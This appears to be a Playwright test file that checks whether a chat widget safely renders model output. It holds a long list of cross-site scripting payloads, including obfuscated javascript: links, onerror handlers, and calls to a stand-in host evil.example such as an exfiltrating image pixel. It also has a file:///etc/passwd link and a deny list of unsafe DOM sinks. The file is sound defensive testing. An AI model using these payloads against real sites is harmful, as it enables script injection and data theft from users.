"""The model as attacker: whatever it writes, nothing runs, nothing is fetched, nothing looks like another place."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import ConsoleMessage, Page, Request, expect

from tests.chat.widget.driver import Widget
from tests.chat.widget.fake_server import FakeServer

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg onload=window.owned=1><animate onbegin=window.owned=1 attributeName=x></svg>",
    "<svg><script>window.owned=1</script></svg>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.owned=1></style></math>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/b)}</style>",
    "<link rel=stylesheet href=https://evil.example/l.css><base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=x><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x](<https://evil.example/a b.png>)",
    "[![x](https://evil.example/1.png)](https://evil.example/2)",
    "![x][1]\n\n[1]: https://evil.example/ref.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](javascript:window.owned=1)",
    "[x](JaVaScRiPt:window.owned=1)",
    "[x](java\tscript:window.owned=1)",
    "[x](&#106;avascript:window.owned=1)",
    "[x](\\javascript:window.owned=1)",
    "[x](<javascript:window.owned=1>)",
    "[x]( javascript:window.owned=1)",
    "[x](data:text/html,<script>window.owned=1</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:https://a/b) [w](//evil.example/)",
    "<javascript:window.owned=1> <data:text/html,x>",
    "[x](https://good.example@evil.example/)",
    "[https://good.example](https://evil.example/)",
    '[x](https://evil.example/"onmouseover="window.owned=1)',
    "[x](https://evil.example/'><img src=x onerror=window.owned=1>)",
    "`<img src=x onerror=window.owned=1>`",
    '```html"onmouseover=window.owned=1\n<script>window.owned=1</script>\n```',
    '{{node:x" onclick="window.owned=1}} {{node:<img src=x onerror=window.owned=1>}}',
    "{{node:javascript:window.owned=1}}",
    "| <img src=x onerror=window.owned=1> |\n|---|\n| [x](javascript:window.owned=1) |",
    "> # <script>window.owned=1</script>\n> - [x](javascript:window.owned=1)",
    "**[x](javascript:window.owned=1** ) [![",
    "__proto__ constructor toString {{node:__proto__}}",
    '<a href="javascript:window.owned=1">x</a>',
    "&lt;script&gt;window.owned=1&lt;/script&gt; &#60;img src=x onerror=window.owned=1&#62;",
]
ALLOWED_TAGS = {
    *("ARTICLE", "DIV", "FOOTER", "SPAN", "BUTTON", "svg", "path"),
    *(
        "A",
        "BDI",
        "BLOCKQUOTE",
        "BR",
        "CODE",
        "DEL",
        "EM",
        "H3",
        "H4",
        "H5",
        "H6",
        "HR",
        "INPUT",
        "LI",
        "OL",
        "P",
        "PRE",
    ),
    *("STRONG", "TABLE", "TD", "TH", "TR", "UL"),
}
INSPECT = """() => {
  const root = document.querySelector("chat-widget").shadowRoot;
  const answers = [...root.querySelectorAll(".assistant"), ...root.querySelectorAll(".assistant *")];
  return {
    tags: [...new Set(answers.map((element) => element.tagName))],
    handlers: answers.flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith("on")),
    links: answers.filter((element) => element.href).map((element) => [element.href, element.textContent]),
    owned: window.owned ?? null,
  };
}"""


@pytest.fixture
def foreign(page: Page, server: FakeServer) -> Iterator[list[str]]:
    """What was asked of other hosts, refused by policy, or thrown. Checked to be empty at the end."""
    seen: list[str] = []

    def requested(request: Request) -> None:
        if not request.url.startswith((server.url, "data:", server.url.replace("http", "ws"))):
            seen.append(request.url)

    def said(message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            seen.append(message.text)

    page.context.on("request", requested)
    page.on("console", said)
    page.on("pageerror", lambda error: seen.append(str(error)))
    yield seen
    assert seen == []


def check(page: Page) -> None:
    found = page.evaluate(INSPECT)
    assert found["owned"] is None
    assert found["handlers"] == []
    assert set(found["tags"]) <= ALLOWED_TAGS
    for href, text in found["links"]:
        assert href.startswith(("https://", "http://", "mailto:"))
        assert "evil.example" in text or "evil.example" not in href


@pytest.mark.parametrize("size", [1, 7])
def test_it_renders_no_attack_live_nor_reloaded(foreign: list[str], widget: Widget, size: int) -> None:
    answer = widget.ask("One").start().write("\n\n".join(PAYLOADS), size=size)
    expect(widget.answers).to_contain_text("<img src=x onerror=window.owned=1>", use_inner_text=False)
    check(widget.page)
    answer.finish()
    expect(widget.answers.locator("footer")).to_be_visible()
    check(widget.page)
    widget.page.reload()
    expect(widget.answers.locator("footer")).to_be_visible()
    check(widget.page)


def test_it_renders_each_attack_alone(foreign: list[str], widget: Widget) -> None:
    widget.server.sessions.clear()
    session = widget.server.session("Attacks")
    for payload in PAYLOADS:
        session.add_message("assistant", content=payload)
    widget.page.evaluate("sessionStorage.clear()")
    widget.page.reload()
    expect(widget.answers).to_have_count(20)
    check(widget.page)
    widget.button("Show earlier messages").click()
    expect(widget.answers).to_have_count(len(PAYLOADS))
    check(widget.page)


def test_it_shows_everything_else_as_text(foreign: list[str], widget: Widget) -> None:
    attack = "<img src=x onerror=window.owned=1>"
    answer = widget.ask(f"{attack} [x](javascript:window.owned=1)").start()
    answer.emit("reasoning", token=attack)
    answer.emit(
        "tool_start",
        toolCallId='"><img src=x onerror=window.owned=1>',
        toolName=attack,
        args={"query": attack, attack: 1},
    )
    answer.emit("tool_result", toolCallId='"><img src=x onerror=window.owned=1>', result={"__proto__": {"x": attack}})
    answer.emit("session_updated", title=attack)
    answer.emit(
        "question", questionId="q", kind="choice", text=attack, options=[attack, {"label": attack, "id": attack}]
    )
    answer.finish("waiting")
    expect(widget.title).to_have_text(attack)
    widget.answers.locator("summary").click()
    widget.answers.locator(".tool-badge").click()
    expect(widget.answers.locator(".tool-details")).to_contain_text(attack)
    expect(widget.open_menu().locator(".session-title").first).to_contain_text(attack)
    failing = widget.ask("Two").start()
    failing.fail("internal", retryable=True, message=attack)
    expect(widget.answers.nth(1).locator(".error")).to_contain_text(attack)
    assert widget.page.evaluate("window.owned ?? null") is None
    assert widget.root.locator("img, script, iframe").count() == 0


def test_it_uses_no_html_strings(server: FakeServer) -> None:
    from tests.chat.widget.fake_server import STATIC

    forbidden = (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "new Function",
        "srcdoc",
        "setHTML",
    )
    for path in STATIC["chat"].rglob("*.js"):
        source = path.read_text()
        assert [word for word in forbidden if word in source] == [], path


def test_it_follows_pages_of_its_own_server_only(foreign: list[str], page: Page, server: FakeServer) -> None:
    page.goto(f"{server.url}/blank.html")
    asked = page.evaluate("""async () => {
      const { ChatApi } = await import("/static/chat/widget/api.js");
      const asked = [];
      window.fetch = async (url) => { asked.push(String(url)); return new Response("{}"); };
      await new ChatApi({ base: "/api/v1/", workspace: "demo", context: null }).page("https://evil.example/api/v1/x?cursor=1");
      return asked;
    }""")
    assert asked == [f"{server.url}/api/v1/x?cursor=1"]
